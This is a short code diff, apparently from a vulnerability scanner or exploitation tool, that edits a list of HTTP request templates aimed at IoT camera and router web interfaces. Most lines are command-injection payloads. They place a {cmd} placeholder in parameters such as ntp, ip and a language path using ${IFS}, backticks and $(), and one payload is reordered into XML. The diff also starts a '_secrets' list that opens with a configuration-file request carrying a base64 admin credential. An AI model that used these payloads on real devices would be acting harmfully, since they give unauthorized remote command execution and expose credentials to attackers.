@@ -23,7 +23,7 @@ POST /cgi-bin/snapshot.cgi ¦¦ action=set&ntp=«;{cmd};»
 GET /language/Swedish${IFS}&&{cmd}>r&&tar${IFS}/string.js
 GET /cgi-bin/nobody/Search.cgi?action=cgi_query&ip=«127.0.0.1;{cmd}»&username=admin
 POST /device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=«{cmd}» ¦¦ x=1
-POST /editBlackAndWhiteList ¦¦ <?xml version="1.0"?><request><types><filterTypeMode><enum>refuse</enum></filterTypeMode></types><content><addressType>ip</addressType><ip>$({cmd})</ip></content></request>
+POST /editBlackAndWhiteList ¦¦ <request><content><ip>$({cmd})</ip><addressType>ip</addressType></content><types><filterTypeMode><enum>refuse</enum></filterTypeMode></types></request>
 GET /cgi-bin/test?{n}=«`{cmd}`»
 """, _secrets: """
 GET /System/configurationFile?auth=YWRtaW46MTEK
